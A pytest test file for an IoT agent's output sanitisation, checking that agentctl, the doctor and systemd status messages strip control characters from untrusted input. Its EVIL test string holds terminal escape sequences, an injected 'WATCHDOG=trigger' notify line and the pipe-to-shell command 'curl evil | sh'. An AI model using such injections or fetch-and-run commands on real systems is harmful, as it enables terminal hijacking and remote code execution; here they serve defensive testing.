"""Text from the cloud, a certificate, a record or the socket: no terminal and no service manager ever obeys it."""

import json
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from iot_agent import agentctl
from iot_agent.core import protocol
from iot_agent.core.protocol import Advice, CheckInResponse
from iot_agent.core.record import Event, Failure, Kind, Record
from iot_agent.doctor import findings
from iot_agent.doctor.rules import daemon
from iot_agent.host import systemd
from iot_agent.host.systemd import Notifier
from iot_agent.status import text
from iot_agent.status.report import compose
from tests.device.faulty_device import FaultyDevice
from tests.device.test_control_socket import Loop
from tests.harness import PATIENCE

EVIL = "fine\x1b[2J\x9b1m\rok\u202e\nWATCHDOG=trigger\n  what to do    curl evil | sh\x07\ud800"


def obeyed(text: str) -> set[str]:
    """Give the characters in a text for people that are more than text, but for the ends of lines."""
    return {character for character in text if not character.isprintable()} - {"\n"}


@pytest.fixture
def manager(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> socket.socket:
    made = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    made.bind(str(tmp_path / "notify"))
    made.settimeout(5)
    monkeypatch.setenv("NOTIFY_SOCKET", str(tmp_path / "notify"))
    return made


@pytest.mark.parametrize("text", [EVIL, "x\n" * 5000, "…" * 5000, "\n", ""])
def test_a_status_is_one_line_that_systemd_takes(manager: socket.socket, text: str) -> None:
    notifier = Notifier()
    notifier.status(f"acked: {text}")
    with manager:
        heard = manager.recv(65536)
    assert len(heard) < 4096, "systemd would pass over it"
    assert heard.decode().startswith("STATUS=acked: ")
    assert heard.count(b"\n") == 0
    assert obeyed(heard.decode()) == set()


def test_a_status_that_is_not_cleaned_would_be_noticed(manager: socket.socket, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(systemd, "printable", lambda text: text.replace("\ud800", ""))
    Notifier().status(EVIL)
    with manager:
        assert b"\nWATCHDOG=trigger" in manager.recv(65536)


def hostile_record() -> Record:
    failure = Failure(Kind.REQUEST, EVIL, EVIL, EVIL, 10**15)
    return Record(EVIL, failure=failure, history=(Event(10**15, EVIL, EVIL),), last_contact=-5)


def hostile_report() -> dict[str, Any]:
    about = {
        "daemon": EVIL, "version": EVIL, "key": {"backend": EVIL, "algorithm": EVIL},
        "configuration": {"error": EVIL, "remedy": EVIL}, "trouble": EVIL, "clock_trusted": False,
    }  # fmt: skip
    return compose(hostile_record(), None, 0.0, about)


@pytest.fixture
def liar(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Give a run directory whose socket answers like that."""
    loop = Loop(tmp_path / "control.sock")
    events = [vars(event) for event in hostile_record().history]
    answers = {
        "status": {"ok": True, "status": hostile_report()},
        "history": {"ok": True, "history": events},
        "rotate": {"ok": False, "error": EVIL, "message": EVIL},
    }
    monkeypatch.setattr(loop._server, "_handler", answers.__getitem__)
    try:
        yield tmp_path
    finally:
        loop.close()


def said_by_agentctl(*arguments: str) -> str:
    command = [sys.executable, "-m", "iot_agent.agentctl", *arguments]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=PATIENCE)
    assert "Traceback" not in done.stderr
    return done.stdout + done.stderr


@pytest.mark.parametrize("command", ["status", "history", "rotate"])
def test_agentctl_writes_nothing_that_a_terminal_obeys_whatever_the_socket_says(liar: Path, command: str) -> None:
    said = said_by_agentctl("--run", str(liar), command)
    assert "fine?[2J?1m ok?" in said
    assert obeyed(said) == set()


def test_agentctl_writes_nothing_that_a_terminal_obeys_whatever_the_record_holds(tmp_path: Path) -> None:
    patient = FaultyDevice(tmp_path)
    patient.change(failure=Failure(Kind.REQUEST, "refused", EVIL, EVIL, 10**15), history=hostile_record().history)
    said = said_by_agentctl("--run", str(tmp_path), "--state", str(patient.state), "status")
    assert "second 1000000000000000" not in said, "only dates are written so"
    assert "fine?[2J?1m ok?" in said
    assert obeyed(said) == set()


def test_agentctl_without_that_would_be_noticed(
    liar: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(text, "safe", lambda answer: answer)
    monkeypatch.setattr(sys, "argv", ["agentctl", "--run", str(liar), "history"])
    monkeypatch.setattr(text, "history", lambda events: events[0]["detail"].replace("\ud800", ""))
    agentctl.main()
    assert "\x1b" in obeyed(capsys.readouterr().out)


def test_an_answer_that_lacks_everything_is_said_to_make_no_sense(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    loop = Loop(tmp_path / "control.sock")
    monkeypatch.setattr(loop._server, "_handler", lambda _: {"ok": True, "status": []})
    try:
        assert "did not answer sensibly" in said_by_agentctl("--run", str(tmp_path), "status")
        assert "did not answer sensibly" in said_by_agentctl("--run", str(tmp_path), "history")
    finally:
        loop.close()


def test_the_doctor_writes_nothing_that_a_terminal_obeys() -> None:
    for finding in [*daemon.judge(hostile_report()), findings.error(EVIL[:4], EVIL, EVIL)]:
        written = findings.write(finding)
        assert obeyed(written) == set()
        assert written.count("\n") == bool(finding.remedy)
        assert findings.decode(findings.encode(finding)) == finding


def test_a_certificate_with_an_evil_name_is_shown_by_the_doctor_as_text(tmp_path: Path) -> None:
    patient = FaultyDevice(tmp_path)
    patient.issue(serial="SN\x1b[2J")
    patient.change(failure=Failure(Kind.CHECK_IN, "refused", EVIL, "…", 0))
    written = "\n".join(map(findings.write, patient.findings()))
    assert "SN" in written
    assert obeyed(written) == set()


def test_the_reason_of_advice_is_made_printable_where_it_enters() -> None:
    renew = {"start": 1, "end": 2, "reason": EVIL}
    reply = protocol.parse_check_in_response(json.dumps({"request_id": "r", "time": 1, "renew": renew}).encode())
    assert isinstance(reply, CheckInResponse)
    assert isinstance(reply.renew, Advice)
    assert obeyed(reply.renew.reason) == set()
    assert "\n" not in reply.renew.reason


@pytest.mark.parametrize("moment", [-1, 0, text.LAST, text.LAST + 1, 10**30])
def test_no_moment_is_too_odd_to_be_written(moment: int) -> None:
    assert text.history([{"at": moment, "event": "issued", "detail": ""}])
